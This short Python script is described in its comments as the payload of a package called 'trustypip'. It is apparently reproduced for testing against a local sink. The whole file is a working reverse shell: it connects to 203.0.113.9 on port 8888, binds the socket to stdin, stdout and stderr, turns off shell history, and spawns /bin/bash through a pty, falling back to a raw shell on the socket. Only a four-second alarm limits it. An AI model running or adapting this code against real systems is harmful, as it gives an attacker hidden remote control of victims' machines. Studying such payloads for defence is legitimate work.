# trustypip's payload as it runs: connect, dup2 the socket onto 0, 1 and
# 2, then pty.spawn a shell (it forks: the shell's stdio is the pty, the
# socket is its parent's).
import os, pty, signal, socket, sys
s = socket.socket()
s.settimeout(3)
try:
    s.connect(("203.0.113.9", 8888))
except OSError as e:
    print("connect failed:", e, file=sys.stderr)
    sys.exit(0)
s.settimeout(None)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.environ["HISTFILE"] = "/dev/null"
# Nobody types at the sink: end in a few seconds (the shell, the pty's
# session leader, is hung up when its parent dies).
signal.alarm(4)
try:
    pty.spawn("/bin/bash")
except OSError:
    # No pty to be had (native has no devpts): the shell on the socket
    # itself, as the payloads' fallbacks do.
    os.execv("/bin/bash", ["/bin/bash"])
